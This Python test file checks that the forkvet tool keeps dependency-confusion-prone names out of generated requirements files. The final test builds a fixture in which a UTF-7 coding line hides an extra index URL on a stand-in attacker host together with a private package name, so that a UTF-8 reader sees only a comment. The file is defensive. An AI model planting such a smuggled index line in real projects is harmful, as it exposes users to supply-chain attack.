"""Names that are no package the authors meant never become pins in env's requirements.txt
(dependency confusion: anyone may register them on the index): requirement lines that install
from disk, modules the repository's own setup.py builds, conda-only packages, and imports
that are neither declared nor known import names."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from forkvet.cli import main
from forkvet.vet.declared import local_install, parse_requirement
from forkvet.vet.metadata import extension_modules
from tests.conftest import MakeRepo


def _env_offline(repo: Path, out: Path, capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    main(["env", str(repo), "--offline", "--out", str(out), "--format", "json"])
    data: dict[str, Any] = json.loads(capsys.readouterr().out)
    return data


def _live(out: Path) -> list[str]:
    """The requirement lines uv would install (not comments)."""
    text = (out / "requirements.txt").read_text()
    return [line.split()[0] for line in text.splitlines() if line.strip() and line[0] != "#"]


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("mylib/", "mylib"),
        ("./libs/mylib", "mylib"),
        ("-e mylib", "mylib"),
        ("mylib-1.0-py3-none-any.whl", "mylib"),
        ("wheels/other-1.0-py3-none-any.whl", "other"),
        ("localsdist-1.0.tar.gz", "localsdist"),
        ("mylib.zip", "mylib"),
        ("-e .[dev]", ""),
        (".", ""),
        ("numpy>=1.0", None),
        ("x @ https://example.com/x-1.0.whl", None),
        ("git+https://github.com/o/pkg.git", None),
    ],
)
def test_lines_that_install_from_disk_are_paths(line: str, name: str | None) -> None:
    assert local_install(line) == name


def test_requirement_lines_from_disk_are_dropped_and_named(
    make_repo: MakeRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = make_repo(
        {
            "requirements.txt": (
                "mylib/\n-e mylib\nmylib-1.0-py3-none-any.whl\nlocalsdist-1.0.tar.gz\n"
                "wheels/other-1.0-py3-none-any.whl\nbundle.zip\nnumpy==1.19.0\n"
                "wheels/torch-1.4.0-cp36-cp36m-linux_x86_64.whl\n"
            ),
            "mylib/__init__.py": "x = 1\n",
            "m.py": "import numpy, other, localsdist, torch\n",
        }
    )
    data = _env_offline(repo, tmp_path / "out", capsys)
    # a local wheel of a public project forkvet knows stays that project
    assert _live(tmp_path / "out") == ["numpy==1.19.0", "torch"]
    problems = "\n".join(data["problems"])
    for name, line in (("mylib", 1), ("localsdist", 4), ("other", 5), ("bundle", 6)):
        assert f"{name} (requirements.txt:{line}): installed by the authors from a local path" in (
            problems
        )


SETUP_EXT = """from setuptools import setup, Extension
from torch.utils.cpp_extension import BuildExtension, CUDAExtension, CppExtension

def get_extensions():
    return [
        CUDAExtension('deform_conv_cuda', ['src/dcn.cu']),
        CppExtension(name='roi_align_cpp', sources=['src/roi.cpp']),
        Extension('deep.pkg.kern', ['src/kern.c']),
    ]

setup(name='det', ext_modules=get_extensions(), cmdclass={'build_ext': BuildExtension})
"""


def test_extension_modules_are_read_from_the_syntax_tree() -> None:
    assert extension_modules(SETUP_EXT) == {"deform_conv_cuda", "roi_align_cpp", "deep.pkg.kern"}
    assert extension_modules("Extension(name_var, [])\nsetup(\n") == set()


def test_modules_the_repository_builds_are_local(
    make_repo: MakeRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = make_repo(
        {
            "setup.py": SETUP_EXT,
            "ops/setup.py": "from setuptools import setup, Extension\n"
            "setup(ext_modules=[Extension('fastops', ['f.c'])])\n",
            "dcn.py": "import torch\nimport deform_conv_cuda\nfrom roi_align_cpp import f\n"
            "import deep.pkg.kern\nimport fastops\n",
        }
    )
    data = _env_offline(repo, tmp_path / "out", capsys)
    assert _live(tmp_path / "out") == ["torch"]
    assert data["guessed"] == []


ENV_YML = """name: x
dependencies:
  - python=3.8
  - pytorch::pytorch=1.12
  - numpy
  - ffmpeg
  - libgcc-ng
  - gcc_linux-64
  - make
  - git
  - opencv
  - pip:
    - tqdm
"""


def test_conda_only_packages_never_go_to_pip(
    make_repo: MakeRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = make_repo(
        {
            "environment.yml": ENV_YML,
            "README.md": "```\nconda install -y -c conda-forge libsndfile openmpi scipy\n```\n",
            "m.py": "import torch, numpy, cv2, tqdm, scipy\n",
        }
    )
    data = _env_offline(repo, tmp_path / "out", capsys)
    out = tmp_path / "out"
    assert sorted(_live(out)) == ["numpy", "opencv-python", "scipy", "torch==1.12", "tqdm"]
    problems = "\n".join(data["problems"])
    conda_only = ("ffmpeg", "libgcc-ng", "gcc_linux-64", "make", "git", "libsndfile", "openmpi")
    for name in conda_only:
        assert f"{name} (" in problems and "a conda package, not a PyPI project" in problems
    env_yml = (out / "environment.yml").read_text()
    assert all(f"  - {name}\n" in env_yml for name in conda_only)
    assert "#   ffmpeg, libgcc-ng" in (out / "requirements.txt").read_text()


def test_guessed_imports_are_comments_with_the_reason(
    make_repo: MakeRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = make_repo(
        {
            "README.md": "```\npip install declaredthing\n```\n",
            "train.py": "from utils import load_data\nimport numpy\nimport declaredthing\n",
        }
    )
    data = _env_offline(repo, tmp_path / "out", capsys)
    assert sorted(_live(tmp_path / "out")) == ["declaredthing", "numpy"]
    assert data["guessed"] == ["utils"]
    text = (tmp_path / "out" / "requirements.txt").read_text()
    assert (
        "# utils  # guessed from an import at train.py:1, not declared and not a known import "
        "name: check before installing"
    ) in text
    assert any(p.startswith("utils: imported but not declared") for p in data["problems"])


def test_modules_of_a_submodule_not_checked_out_are_not_pinned(
    make_repo: MakeRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = make_repo(
        {
            ".gitmodules": (
                '[submodule "sg"]\n\tpath = third_party/sg2\n'
                "\turl = https://github.com/example/stylegan2-ada-pytorch\n"
            ),
            "gen.py": "import sys\nsys.path.append('third_party/sg2')\n"
            "import torch\nimport dnnlib, legacy, torch_utils\n",
        }
    )
    # a gitlink without content, as a plain clone has it
    subprocess.run(
        ["git", "update-index", "--add", "--cacheinfo", "160000", "a" * 40, "third_party/sg2"],
        cwd=repo,
        check=True,
    )
    subprocess.run(["git", "commit", "-qm", "submodule"], cwd=repo, check=True)
    data = _env_offline(repo, tmp_path / "out", capsys)
    assert _live(tmp_path / "out") == ["torch"]
    assert sorted(data["guessed"]) == ["dnnlib", "legacy", "torch-utils"]
    assert any("third_party/sg2 are not checked out" in p for p in data["problems"])


def test_an_archive_url_is_named_by_its_file_name() -> None:
    assert parse_requirement("https://example.com/y-1.0.tar.gz") == (
        "y",
        "https://example.com/y-1.0.tar.gz",
    )


GITLAB = "https://gitlab.acme-corp.example/ml/acme-dataloaders.git"


@pytest.mark.parametrize(
    ("path", "text", "said"),
    [
        ("README.md", f"```\npip install git+{GITLAB}\n```\n", "installed from git"),
        (
            "README.md",
            f"```\npip install 'acme-dataloaders @ git+{GITLAB}@v2'\n```\n",
            "installed from git",
        ),
        (
            "README.md",
            "```\npip install -e 'git+ssh://git@gitlab.acme-corp.example/ml/dl.git"
            "#egg=acme-dataloaders'\n```\n",
            "never passed to the resolver",
        ),
        (
            "README.md",
            f"```\ngit clone {GITLAB}\npip install -e acme-dataloaders\n```\n",
            "cloned into acme-dataloaders",
        ),
        (
            "README.md",
            f"```\ngit clone {GITLAB}\ncd acme-dataloaders\npip install -e .\n```\n",
            "cloned and installed from its folder",
        ),
        (
            "README.md",
            "```\ngit clone --depth 1 -b main https://gitlab.acme-corp.example/ml/dl.git "
            "acme_dataloaders && pip install ./acme_dataloaders\n```\n",
            "cloned into ./acme_dataloaders",
        ),
        ("README.md", "```\npip install -e ./acme-dataloaders\n```\n", "a local path"),
        ("README.md", "```\npip install ../acme-dataloaders/\n```\n", "a local path"),
        ("README.md", "```\npip install --editable=Acme.DataLoaders\n```\n", "a local path"),
        ("setup.sh", f"#!/bin/sh\npip install git+{GITLAB}\n", "installed from git"),
        (
            "scripts/setup.sh",
            f"#!/bin/sh\nset -e\ngit clone {GITLAB}\ncd acme-dataloaders\npip install .\ncd ..\n",
            "cloned and installed from its folder",
        ),
        (
            "docker/Dockerfile",
            f"FROM python:3.11\nRUN git clone {GITLAB} /opt/acme-dataloaders && \\\n"
            "    pip install -e /opt/acme-dataloaders\n",
            "cloned into /opt/acme-dataloaders",
        ),
        (
            ".github/workflows/ci.yml",
            "steps:\n  - run: pip install -e ./acme-dataloaders\n",
            "a local path",
        ),
        # from a URL: a wheel's or an archive's file name, a PEP 508 direct reference
        # (round 15a F2)
        (
            "README.md",
            "```\npip install https://dl.acme-corp.example/r/"
            "acme_dataloaders-2.1.0-py3-none-any.whl\n```\n",
            "URL or VCS requirement",
        ),
        (
            "README.md",
            "```\npip install https://dl.acme-corp.example/r/acme-dataloaders-2.1.0.tar.gz\n```\n",
            "URL or VCS requirement",
        ),
        (
            "setup.sh",
            'pip install "acme-dataloaders @ https://dl.acme-corp.example/r/dl.tar.gz"\n',
            "URL or VCS requirement",
        ),
    ],
)
def test_a_package_installed_from_git_or_a_folder_is_never_pinned_elsewhere(
    make_repo: MakeRepo,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    path: str,
    text: str,
    said: str,
) -> None:
    """README, script, Dockerfile and CI install lines from a git URL, a clone or a folder:
    requirements.txt's `acme-dataloaders==2.1.0` was pinned live (outside test, high)."""
    repo = make_repo(
        {
            "requirements.txt": "numpy==1.24.0\nacme-dataloaders==2.1.0\n",
            "train.py": "import numpy\nimport acme_dataloaders\n",
            path: text,
        }
    )
    data = _env_offline(repo, tmp_path / "out", capsys)
    assert _live(tmp_path / "out") == ["numpy==1.24.0"]
    problems = "\n".join(data["problems"])
    assert "acme-dataloaders (" in problems
    assert said in problems


def test_the_folders_own_project_name_is_from_the_folder_too(
    make_repo: MakeRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`pip install -e libs/loaders` whose setup.py names `acme-dataloaders`: that name is
    installed from the folder, not the index."""
    repo = make_repo(
        {
            "requirements.txt": "numpy==1.24.0\nacme-dataloaders==2.1.0\n",
            "train.py": "import numpy\n",
            "libs/loaders/setup.py": (
                "from setuptools import setup\nsetup(name='acme-dataloaders')\n"
            ),
            "README.md": "```\npip install -e libs/loaders\n```\n",
        }
    )
    _env_offline(repo, tmp_path / "out", capsys)
    assert _live(tmp_path / "out") == ["numpy==1.24.0"]


@pytest.mark.parametrize(
    "text",
    [
        "```\npip install -e .\npip install -r requirements.txt\n```\n",
        # a clone of the repository itself, then its own install
        "```\ngit clone https://github.com/someone/proj.git\ncd proj\npip install -e .\n```\n",
        # a clone nobody installs, and an index name in a script: no mark
        "```\ngit clone https://gitlab.acme-corp.example/ml/acme-dataloaders.git\n```\n",
        "```\ncd acme-dataloaders\npip install -e .\n```\n",  # no clone of that folder
        # a URL install of another project marks only that one
        "```\npip install https://dl.example.org/r/other_tool-1.0-py3-none-any.whl\n```\n",
    ],
)
def test_the_repository_itself_and_index_names_stay_pinned(
    make_repo: MakeRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    repo = make_repo(
        {
            "requirements.txt": "numpy==1.24.0\nacme-dataloaders==2.1.0\n",
            "train.py": "import numpy\n",
            "setup.py": "from setuptools import setup\nsetup(name='proj')\n",
            "README.md": text,
            "scripts/install.sh": "pip install acme-dataloaders otherpkg\n",
            # a script's pins, from a framework's index too, are no declaration
            "docker/Dockerfile": (
                "RUN pip install torch==2.1.2 --index-url https://wheels.framework.example/cu121\n"
            ),
        }
    )
    _env_offline(repo, tmp_path / "out", capsys)
    assert _live(tmp_path / "out") == ["numpy==1.24.0", "acme-dataloaders==2.1.0"]


def test_a_known_project_from_its_own_git_keeps_the_pin_another_file_gives(
    make_repo: MakeRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """transformers from its repository: the git line is a comment; requirements.txt's pin
    stays (its owners hold the name on the index), as for a known project from another
    index; an unknown name's pin is dropped whichever file comes first."""
    repo = make_repo(
        {
            "requirements.txt": "transformers==4.30.0\nacme-dataloaders==2.1.0\n",
            "train.py": "import transformers\n",
            "README.md": (
                "```\npip install git+https://github.com/huggingface/transformers\n"
                f"pip install git+{GITLAB}\n```\n"
            ),
        }
    )
    _env_offline(repo, tmp_path / "out", capsys)
    assert _live(tmp_path / "out") == ["transformers==4.30.0"]
    text = (tmp_path / "out" / "requirements.txt").read_text()
    assert "# transformers @ git+https://github.com/huggingface/transformers" in text
    assert "# acme-dataloaders @ git+https://gitlab.acme-corp.example/ml/acme-dataloaders" in text


def test_a_requirements_file_is_read_as_pip_decodes_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Round 14a F16: `# coding: utf-7` in requirements.txt: pip decodes the file by it and
    reads an `--extra-index-url` line and a package that a UTF-8 reader sees as one comment."""
    hidden = "+AAo---extra-index-url https://pypi.evil.example/simple+AAo-corp-x==1.0"  # +AAo-: \n
    body = f"# coding: utf-7\nnumpy==1.24.0\n# note{hidden}\n"
    assert "\n--extra-index-url" in body.encode().decode("utf-7")
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "requirements.txt").write_text(body)
    (repo / "train.py").write_text("import numpy\nimport corp_x\n")
    out = tmp_path / "out"
    main(["env", str(repo), "--offline", "--out", str(out), "--format", "json"])
    problems = json.loads(capsys.readouterr().out)["problems"]
    written = (out / "requirements.txt").read_text()
    assert not any(ln.startswith("corp-x") for ln in written.splitlines())
    said = [p for p in problems if p.startswith("corp-x")]
    assert said and "pypi.evil.example" in said[0] and "never resolved on your index" in said[0]
